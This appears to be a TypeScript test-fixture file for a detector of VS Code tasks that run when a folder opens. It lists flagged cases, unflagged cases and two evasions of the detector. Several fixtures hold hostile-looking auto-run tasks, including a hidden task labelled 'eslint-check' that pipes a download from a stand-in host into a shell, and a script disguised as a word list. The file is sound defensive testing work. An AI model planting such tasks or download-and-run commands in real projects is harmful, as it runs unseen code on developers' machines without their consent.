import type { Examples } from "@doorward/core";

/** Arrivals with and without a task that starts on opening. */
export const examples: Examples = {
  hits: [
    {
      name: "a task that downloads a script and starts it when the folder opens",
      files: {
        ".vscode/tasks.json": `{
  "version": "2.0.0",
  "tasks": [
    {
      "label": "eslint-check",
      "type": "shell",
      "command": "curl -s https://settings.example/linux | sh",
      "presentation": { "reveal": "never", "echo": false },
      "runOptions": { "runOn": "folderOpen" }
    }
  ]
}
`,
      },
    },
    {
      name: "one task with another command for each system",
      files: {
        ".vscode/tasks.json": `{
  "version": "2.0.0",
  "tasks": [
    {
      "label": "env",
      "type": "shell",
      "osx": { "command": "curl -s https://settings.example/mac | bash" },
      "linux": { "command": "wget -qO- https://settings.example/linux | sh" },
      "windows": { "command": "curl -s https://settings.example/win | cmd" },
      "runOptions": { "runOn": "folderOpen" }
    }
  ]
}
`,
      },
    },
    {
      name: "a task among comments and trailing commas, which VS Code accepts",
      files: {
        ".vscode/tasks.json": `{
  // Keeps the word list fresh.
  "version": "2.0.0",
  "tasks": [
    { "label": "build", "type": "npm", "script": "build", },
    {
      "label": "dictionary",
      "type": "process",
      "command": "node",
      "args": [".vscode/words.dict"],
      "runOptions": { "runOn": "folderOpen", },
    },
  ],
}
`,
        ".vscode/words.dict": 'console.log("A program in a word list.");\n',
      },
    },
    {
      name: "an honest watcher that starts when the folder opens",
      files: {
        ".vscode/tasks.json": `{
  "version": "2.0.0",
  "tasks": [
    { "label": "watch", "type": "npm", "script": "watch", "runOptions": { "runOn": "folderOpen" } }
  ]
}
`,
        "package.json": '{ "name": "site", "version": "1.0.0", "scripts": { "watch": "tsc --watch" } }\n',
      },
    },
  ],
  misses: [
    {
      name: "the same kind of task without a way to start it on opening",
      why: "A person has to choose the task by name before it runs.",
      files: {
        ".vscode/tasks.json": `{
  "version": "2.0.0",
  "tasks": [{ "label": "watch", "type": "npm", "script": "watch", "problemMatcher": "$tsc-watch" }]
}
`,
      },
    },
    {
      name: "a task whose run option is the default",
      why: "With the default option the task waits until somebody starts it.",
      files: {
        ".vscode/tasks.json": `{
  "version": "2.0.0",
  "tasks": [
    { "label": "test", "type": "shell", "command": "npm test", "runOptions": { "runOn": "default" } }
  ]
}
`,
      },
    },
    {
      name: "a start-up task that is only a comment",
      why: "VS Code ignores comments, so nothing is started.",
      files: {
        ".vscode/tasks.json": `{
  "version": "2.0.0",
  "tasks": [
    // { "label": "watch", "type": "npm", "script": "watch", "runOptions": { "runOn": "folderOpen" } }
  ]
}
`,
      },
    },
    {
      name: "documentation that shows such a task",
      why: "A text in a document is read by people and started by nobody.",
      files: {
        "docs/editor.md": `Add this to your own tasks:

\`\`\`json
{ "label": "watch", "type": "npm", "script": "watch", "runOptions": { "runOn": "folderOpen" } }
\`\`\`
`,
      },
    },
  ],
  evasions: [
    {
      name: "the same task in a folder below, which the brief asks the reader to open",
      caughtBy: "nothing",
      files: {
        "app/.vscode/tasks.json": `{
  "version": "2.0.0",
  "tasks": [
    { "label": "setup", "type": "shell", "command": "node setup.js", "runOptions": { "runOn": "folderOpen" } }
  ]
}
`,
        "app/setup.js": 'console.log("set up");\n',
        "README.md": "Open the folder `app` in VS Code and start with `src/App.tsx`.\n",
      },
    },
    {
      name: "a task that starts by hand, with a sentence that asks for it",
      caughtBy: "nothing",
      files: {
        ".vscode/tasks.json": `{
  "version": "2.0.0",
  "tasks": [{ "label": "setup", "type": "shell", "command": "node setup.js" }]
}
`,
        "setup.js": 'console.log("set up");\n',
        "README.md": "Press Ctrl+Shift+B to set the project up.\n",
      },
    },
  ],
};
